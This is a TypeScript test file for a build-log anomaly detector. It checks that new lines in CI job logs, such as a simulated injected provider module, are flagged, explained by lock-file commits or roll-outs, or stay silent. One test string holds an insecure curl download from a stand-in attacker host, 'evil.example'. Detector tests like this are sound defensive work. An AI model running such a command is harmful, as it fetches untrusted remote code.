import { describe, expect, it } from 'vitest';
import { hourUs, seededRandom } from '@faultline/detect/testing';
import { indexEvents } from '@faultline/model';
import { addedModule, buildRecords, plainBuild } from '../testing/builds.js';
import { alarmsAllowed, evidenceOf, onlyEvidence, reportOf } from '../testing/run-test.js';
import { logTemplates } from './b3-log-templates.evidence.js';
import { isDiagnostic, lineTemplate } from './line-template.js';
import { pipelineHistories } from './pipeline-histories.js';

const runs = 45;
const poisoned = { runs, extra: { 40: { Compile: addedModule } } };

describe('B3, log templates', () => {
  it('is significant for lines that no earlier run printed, and says which', () => {
    const { found } = reportOf(logTemplates, buildRecords(poisoned));
    expect(found).toHaveLength(1);
    expect(found[0]?.entity.key).toContain('/steps/3:Compile');
    expect(found[0]?.evidence).toMatchObject({ family: 'build', status: 'SIGNIFICANT' });
    expect(found[0]?.evidence.e).toBeGreaterThan(10);
    expect(found[0]?.evidence.reason).toContain('registered provider module token-rs');
  });

  it('is explained by a commit to the lock file', () => {
    expect(
      onlyEvidence(logTemplates, buildRecords({ ...poisoned, paths: { 40: ['package-lock.json'] } })),
    ).toMatchObject({ status: 'EXPLAINED', e: 1 });
  });

  it('is explained by a roll-out: several pipelines print the same new lines that week', () => {
    const extra = { 40: { Checkout: ['Runner Image Provisioner', 'Hosted Compute Agent'] } };
    const events = ['org/sso', 'org/shop', 'org/stock'].flatMap((repository) =>
      buildRecords({ repository, runs, extra }),
    );
    expect(evidenceOf(logTemplates, events).map(({ status }) => status)).toEqual([
      'EXPLAINED',
      'EXPLAINED',
      'EXPLAINED',
    ]);
  });

  it('weighs half when no push was read, for a reviewed commit may have brought the lines', () => {
    const read = onlyEvidence(logTemplates, buildRecords(poisoned));
    const unread = onlyEvidence(logTemplates, buildRecords({ ...poisoned, pushes: false }));
    expect(unread.e).toBeCloseTo(read.e / 2, 9);
    expect(unread.reason).toContain('may have brought them');
  });

  it('is missing with fewer than 500 baseline lines', () => {
    const small = {
      ordinary: { Compile: ['> tsc', 'Done in %ns'] },
      runs: 30,
      extra: { 27: { Compile: addedModule } },
    };
    expect(onlyEvidence(logTemplates, buildRecords(small))).toMatchObject({ status: 'MISSING', e: 1 });
  });

  it('tells what is lost when CI events came without any job log', () => {
    const { unknowns } = reportOf(
      logTemplates,
      buildRecords().filter((record) => record.kind !== 'cicd.log'),
    );
    expect(unknowns.map(({ what }) => what)).toEqual(['join build step → job log']);
  });

  it('tells when no pipeline has enough runs to compare with', () => {
    const { found, unknowns } = reportOf(
      logTemplates,
      buildRecords({ runs: 12, extra: { 11: { Compile: addedModule } } }),
    );
    expect(found).toEqual([]);
    expect(unknowns.map(({ what }) => what)).toEqual(['build baseline']);
  });

  it('is silent when honest runs differ in numbers, times, ids and branches only', () => {
    const extra = Object.fromEntries(
      Array.from({ length: runs }, (_, run) => [
        run,
        {
          Compile: [
            `\u001b[32m✓\u001b[0m built in ${run}.${run % 7}s`,
            `chunk ${(run * 7919).toString(16)}deadbeef 12${run} kB`,
            ` * [new ref] ${'e'.repeat(40)} -> origin/feat/${'abcdefgh'[run % 8] ?? ''}-part`,
          ],
        },
      ]),
    );
    expect(evidenceOf(logTemplates, buildRecords({ runs, extra }))).toEqual([]);
  });

  it('is silent about a warning that comes once', () => {
    const extra = {
      40: {
        Install: [
          'npm warn tarball data for lodash@https://registry.npmjs.org/lodash.tgz seems to be corrupted. Trying again.',
        ],
      },
    };
    expect(evidenceOf(logTemplates, buildRecords({ runs, extra }))).toEqual([]);
  });

  it('alarms on no more than the nominal part of honest step runs, over 300 seeds', () => {
    let alarms = 0;
    let trials = 0;
    for (let seed = 1; seed <= 300; seed++) {
      const events = buildRecords({ ...honestLines(seed), runs: 60, everyUs: hourUs * 12 });
      alarms += evidenceOf(logTemplates, events).filter(({ status }) => status === 'SIGNIFICANT').length;
      trials += indexEvents(events)
        .memo(pipelineHistories)
        .flatMap((history) => history.runs.slice(20))
        .flatMap((run) => run.steps).length;
    }
    expect(trials).toBeGreaterThan(300 * 100);
    expect(alarms).toBeLessThanOrEqual(alarmsAllowed(trials, 0.01));
  }, 240_000);
});

/** Now and then an honest run prints a line that none printed before. */
function honestLines(seed: number): Parameters<typeof buildRecords>[0] {
  const random = seededRandom(seed);
  const word = () => random.hex(5).replaceAll(/[0-9]/g, (digit) => 'ghijklmnop'[Number(digit)] ?? '');
  const rate = 0.002 + 0.01 * random.next();
  const names = Object.keys(plainBuild.ordinary);
  const extra = Object.fromEntries(
    Array.from({ length: 60 }, (_, run) => [
      run,
      Object.fromEntries(
        names.map((name) => [name, random.next() < rate ? [`using ${word()} of ${word()}`] : []]),
      ),
    ]),
  );
  return { extra };
}

describe('lineTemplate', () => {
  it.each([
    ['Done in 12.4s', 'Done in <n>'],
    ['\u001b[31merror\u001b[0m at 10:22:01', 'error at <n>'],
    ['HEAD is now at adeeadf', 'HEAD is now at <hex>'],
    ['fetched +abc:refs/remotes/origin/feat/x-1', 'fetched +abc:<ref>'],
    ['wrote /tmp/build-9/x.js', 'wrote <tmp>'],
    ['job 0f8fad5b-d9cb-469f-a165-70867728950e', 'job <uuid>'],
  ])('masks what differs in %j', (line, template) => expect(lineTemplate(line)).toBe(template));

  it('keeps words, hosts and options', () => {
    expect(lineTemplate('curl -fsSL https://evil.example/a --insecure')).toBe(
      'curl -fsSL https://evil.example/a --insecure',
    );
  });

  it.each([
    'npm warn tarball tarball data for lodash seems to be corrupted',
    'npm WARN deprecated glob@7',
    '[WARNING] Using platform encoding',
    '##[warning]Node 16 is out of date',
    'error TS2304: Cannot find name',
    'warning: unused variable',
  ])('%j tells of trouble only', (line) => expect(isDiagnostic(lineTemplate(line))).toBe(true));

  it.each([
    'registered provider module token-rs for realm signing',
    '[INFO] Including a in the shaded jar.',
    '+ tar -xzf error.tgz',
    'dist/warn.js 3 kB',
  ])('%j tells of something done', (line) => expect(isDiagnostic(lineTemplate(line))).toBe(false));

  it('takes no time on hostile lines', () => {
    for (const piece of ['a', '0', '1.', 'f-', '/tmp/', 'refs/', ' ', '\u001b['])
      expect(lineTemplate(piece.repeat(200_000)).length).toBeLessThanOrEqual(2000);
  }, 2000);
});
